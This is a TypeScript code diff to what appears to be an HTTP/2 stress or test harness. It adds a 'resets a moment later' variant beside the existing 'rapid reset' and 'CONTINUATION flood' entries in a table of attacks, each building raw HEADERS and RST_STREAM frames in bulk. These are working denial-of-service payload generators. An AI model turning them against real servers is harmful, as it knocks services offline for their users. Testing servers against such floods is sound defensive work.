@@ -64,17 +64,20 @@ const get = (path: string): Buffer =>
 const hello = (): Buffer => Buffer.concat([preface, settings()])
 const cancel = Buffer.from([0, 0, 0, 8])
 
+/** Of the hundred streams of a round. */
+const hundred = (round: number, make: (stream: number) => Buffer[]): Buffer =>
+  Buffer.concat(Array.from({ length: 100 }, (_, i) => make((round * 100 + i) * 2 + 1)).flat())
+
 /** By what they do. */
 const attacks: Record<string, Attack> = {
   'rapid reset': {
     first: hello,
+    next: (round) => hundred(round, (stream) => [frame(1, 5, stream, get('/attack')), frame(3, 0, stream, cancel)]),
+  },
+  'resets a moment later': {
+    first: hello,
     next: (round) =>
-      Buffer.concat(
-        Array.from({ length: 100 }, (_, i) => {
-          const stream = (round * 100 + i) * 2 + 1
-          return Buffer.concat([frame(1, 5, stream, get('/attack')), frame(3, 0, stream, cancel)])
-        }),
-      ),
+      hundred(round >> 1, (stream) => [round % 2 === 0 ? frame(1, 5, stream, get('/attack')) : frame(3, 0, stream, cancel)]),
   },
   'a CONTINUATION flood': {
     first: () => Buffer.concat([hello(), frame(1, 1, 1, get('/attack'))]),
